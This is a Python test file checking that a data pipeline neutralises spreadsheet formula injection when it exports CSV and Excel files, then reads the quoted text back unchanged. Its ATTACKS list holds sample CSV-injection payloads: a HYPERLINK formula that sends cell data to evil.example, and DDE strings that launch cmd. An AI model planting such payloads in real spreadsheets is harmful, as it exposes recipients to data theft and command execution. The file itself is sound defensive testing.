"""Formula injection: texts that a spreadsheet would run are written quoted, and read back unchanged."""

import csv
import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from pipeline.cells import neutralise, neutralise_frame, restore
from pipeline.cli import main
from pipeline.config import DataPaths
from pipeline.ingest import ingest
from pipeline.store import Store
from tests.helpers import SEED

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "=1+2", "'=already quoted"]


@pytest.mark.parametrize(("text", "written"), [
    ("=1+2", "'=1+2"), ("+84 912 345 678", "'+84 912 345 678"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-3", "-3"), ("-1.234,5", "-1.234,5"), ("Lũy kế 22,68%", "Lũy kế 22,68%"),
    ("'=x", "''=x"), ("'ok", "'ok"), ("", ""), (None, None), (6.0, 6.0),
])
def test_neutralise_follows_the_owasp_rule_and_restore_undoes_it(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


def test_neutralise_frame_touches_text_columns_only():
    frame = pd.DataFrame({"note": ["=1", None, "ok"], "value": [-3.0, 1.0, 2.0]})
    out = neutralise_frame(frame)
    assert out["note"].iloc[0] == "'=1" and out["note"].isna().iloc[1] and out["note"].iloc[2] == "ok"
    assert out["value"].tolist() == [-3.0, 1.0, 2.0]
    assert frame["note"].iloc[0] == "=1"  # the argument is not mutated


@pytest.fixture
def noted(data_dir):
    """A long CSV whose notes are formulas, ingested."""
    rows = [["18133", "2021-Q3", "1.1.1", "6", ATTACKS[0]], ["18133", "2021-Q3", "1.1.2", "5", ATTACKS[1]],
            ["18133", "2021-Q3", "1.3.1", "4", ATTACKS[2]], ["18133", "2021-Q3", "1.3.2", "4", ATTACKS[3]],
            ["18133", "2021-Q3", "7.1.1", ATTACKS[4], ATTACKS[5]]]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([["commune_code", "period", "indicator_code", "value", "note"]]
                                                     + rows)
    (data_dir.raw / "notes.csv").write_text(buffer.getvalue(), encoding="utf-8")
    assert ingest(None, data=data_dir).ok
    return data_dir


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("to_file", [True, False])
def test_export_csv_quotes_formulas_and_the_export_ingests_back_unchanged(noted, tmp_path, capsys, to_file):
    target = tmp_path / "export.csv"
    argv = ["export", "--period", "2021-Q3", "--data-dir", str(noted.root)] + (["-o", str(target)] if to_file else [])
    assert main(argv) == 0
    text = target.read_text(encoding="utf-8") if to_file else capsys.readouterr().out
    cells = _cells(text)
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c.startswith("-") and not c[1:2].isdigit())]
    for attack in ATTACKS[:5]:
        assert "'" + attack in cells
    assert "'=already quoted" in cells  # the quote in the input was taken as the prefix: the note is "=already…"
    # the exported file is a long CSV: ingested again, every note and text is what the commune wrote
    again = DataPaths(tmp_path / "again")
    again.raw.mkdir(parents=True)
    (again.raw / "export.csv").write_text(text, encoding="utf-8")
    assert ingest(None, data=again).ok
    before = Store(noted).read("values").set_index("indicator_code")
    after = Store(again).read("values").set_index("indicator_code")
    assert before["note"].to_dict() == dict(zip(["1.1.1", "1.1.2", "1.3.1", "1.3.2", "7.1.1"],
                                                ATTACKS[:4] + ["=already quoted"]))
    assert before.at["7.1.1", "value_text"] == "=1+2" and "'=1+2" in cells
    # (a text indicator's value is exported as value_text, which the long CSV does not read: 7.1.1 stays behind)
    assert after["note"].to_dict() == before["note"].drop("7.1.1").to_dict()


def test_the_form_writes_a_communes_text_as_text_not_a_formula(noted, tmp_path):
    # 7.1.1 (a text indicator) of 18133 2021-Q3 is "=1+2": the 2021-Q4 form shows it in its reference column
    path = tmp_path / "form.xlsx"
    assert main(["template", "--commune", "18133", "--period", "2021-Q4", "-o", str(path),
                 "--data-dir", str(noted.root)]) == 0
    ws = load_workbook(path)["Phụ lục 2B"]
    shown = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "1+2" in c.value]
    assert [(c.value, c.data_type) for c in shown] == [("'=1+2", "s")]
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


def test_the_office_writer_quotes_formulas_and_the_ingest_reads_them_back(tmp_path):
    from devtools.office_writer import read_seed, write_xlsx

    line = "1.1.1.\tSố nhiệm vụ đề ra trong kế hoạch\tNhiệm vụ\t6\t"
    text = SEED.read_text(encoding="utf-8").replace(line, line + ATTACKS[0].replace('"', "'"), 1)
    data = DataPaths(tmp_path)
    data.raw.mkdir()
    path = write_xlsx(read_seed(text), data.raw / "18217_2021-Q3.xlsx")
    cell = next(c for row in load_workbook(path).active.iter_rows() for c in row
                if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert cell.value.startswith("'=HYPERLINK") and cell.data_type == "s"
    ingest(None, data=data)
    values = Store(data).read("values").set_index("indicator_code")
    assert values.at["1.1.1", "note"] == ATTACKS[0].replace('"', "'")


def test_the_sample_csv_writer_quotes_formulas():
    from devtools.sample import long_csv_text

    frame = pd.DataFrame([{"commune_code": "18133", "period": "2021-Q3", "indicator_code": "1.1.1", "value": 6.0,
                           "note": "=1+2"}])
    assert "'=1+2" in _cells(long_csv_text(frame))
